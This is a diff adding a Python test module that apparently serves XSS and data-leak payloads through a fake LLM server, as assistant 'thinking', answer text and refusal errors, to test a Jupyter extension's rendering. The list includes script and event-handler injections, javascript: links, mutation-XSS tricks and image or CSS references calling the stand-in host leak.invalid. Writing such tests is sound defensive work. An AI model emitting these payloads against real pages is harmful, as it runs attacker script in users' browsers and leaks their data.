@@ -1,0 +1,100 @@
+"""Texts that would run code in a notebook, or call home from it, if they were shown as anything but text."""
+
+from __future__ import annotations
+
+import itertools
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from tests.faults import LINES, chunk
+from tests.faults.connection import EndError
+
+if TYPE_CHECKING:
+    from tests.faults.connection import Connection
+
+RUNS = "window.canary='ran'"
+HOME = "http://leak.invalid"
+_DARK = json.dumps({"theme": "JupyterLab Dark"})
+
+PAYLOADS = (
+    # what runs by itself
+    f"<script>{RUNS}</script>",
+    f"<ScRiPt src={HOME}/x.js></sCrIpT>",
+    f'<img src=x onerror="{RUNS}">',
+    f"<img src=x onerror={RUNS}//",
+    f"<svg onload={RUNS}></svg>",
+    f"<svg><script>{RUNS}</script></svg>",
+    f'<svg><animate onbegin="{RUNS}" attributeName=x dur=1s></svg>',
+    f'<details open ontoggle="{RUNS}"><summary>x</summary></details>',
+    f'<iframe srcdoc="<script>parent.{RUNS[7:]}</script>"></iframe>',
+    f'<iframe src="javascript:parent.{RUNS[7:]}"></iframe>',
+    f'<input autofocus onfocus="{RUNS}">',
+    f'<body onload="{RUNS}">',
+    f'<video src=x onerror="{RUNS}"></video>',
+    f'<audio src=x onerror="{RUNS}"></audio>',
+    f'<marquee onstart="{RUNS}">x</marquee>',
+    f'<object data="javascript:{RUNS}"></object>',
+    f'<embed src="javascript:{RUNS}">',
+    f'<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUNS}&gt;">',
+    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
+    f"</div></td></table></details><script>{RUNS}</script>",
+    f"<![CDATA[<img src=x onerror={RUNS}>]]><!--><img src=x onerror={RUNS}>-->",
+    f"&lt;script&gt;{RUNS}&lt;/script&gt;<scr\x00ipt>{RUNS}</scr\x00ipt>",
+    f'```html"onmouseover="{RUNS}\n<script>{RUNS}</script>\n```',
+    f"`</code><script>{RUNS}</script>`",
+    f"$</span><img src=x onerror={RUNS}>$ and \\(</p><script>{RUNS}</script>\\)",
+    f"\x1b]8;;javascript:{RUNS}\x1b\\link\x1b]8;;\x1b\\ \x1b[31m<script>{RUNS}</script>",
+    # what waits for a click or the mouse
+    f"[x](javascript:{RUNS})",
+    f"[x](JaVaScRiPt&colon;{RUNS}) [y](&#106;avascript:{RUNS}) <javascript:{RUNS}>",
+    f"[x](data:text/html,<script>{RUNS}</script>) [y](vbscript:{RUNS})",
+    f"[x](https://good.example 'title\"onmouseover={RUNS}')",
+    f"[x]: javascript:{RUNS}\n\n[x]",
+    f'<a href="javascript:{RUNS}" target=_self>x</a>',
+    f'<form action="javascript:{RUNS}"><button data-target>send</button></form>',
+    f"<button data-commandlinker-command='apputils:change-theme' data-commandlinker-args='{_DARK}'>x</button>",
+    f"$\\href{{javascript:{RUNS}}}{{x}}$ $$\\style{{background:url({HOME}/style)}}{{x}}$$",
+    "<a id=jupyterapp href=x>x</a><form name=canary><input name=x></form>",
+    # what calls home by itself
+    f"![x]({HOME}/picture.png?q=secret)",
+    "![x](//leak.invalid/relative.png) ![y](HTTP://leak.invalid/upper.png)",
+    f"![x][1]\n\n[1]: {HOME}/reference.png",
+    f"[![x]({HOME}/inner.png)](https://good.example)",
+    f'<img src="{HOME}/img.png"><img srcset="{HOME}/set.png 2x"><picture><source srcset={HOME}/p></picture>',
+    f"<style>@import '{HOME}/a.css'; body {{ background: url({HOME}/b) }}</style>",
+    f"<link rel=stylesheet href={HOME}/c.css><link rel=prefetch href={HOME}/d>",
+    f'<div style="background:url({HOME}/e)">x</div><table background="{HOME}/f"><tr><td>x</table>',
+    f"<meta http-equiv=refresh content='0;url={HOME}/g'><base href={HOME}/>",
+    f"<video poster={HOME}/h autoplay><source src={HOME}/i></video><input type=image src={HOME}/j>",
+    f"$\\includegraphics{{{HOME}/k}}$ $\\require{{{HOME}/l}}$ <svg><image href={HOME}/m /><use href={HOME}/n#x /></svg>",
+    f'```mermaid\ngraph TD; A[<img src={HOME}/o>] --> B\nclick A href "{HOME}/p"\n```',
+)
+
+
+@dataclass
+class Answers:
+    """A step that gives one payload after another: as thoughts and as text of an answer."""
+
+    left: Iterator[str] = field(default_factory=lambda: itertools.cycle(PAYLOADS))
+
+    def run(self, connection: Connection) -> None:
+        """Do it."""
+        text = next(self.left)
+        lines = [chunk("", message={"role": "assistant", "content": "", "thinking": text}), chunk(text)]
+        connection.send(LINES + b"".join(lines) + chunk(done=True, done_reason=text, prompt_eval_count=1, eval_count=1))
+        raise EndError
+
+
+@dataclass
+class Refusals:
+    """A step that gives one payload after another as the reason why a request is refused."""
+
+    left: Iterator[str] = field(default_factory=lambda: itertools.cycle(PAYLOADS))
+
+    def run(self, connection: Connection) -> None:
+        """Do it."""
+        body = json.dumps({"error": next(self.left)}).encode()
+        connection.send(b"HTTP/1.1 400 Bad\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
+        raise EndError
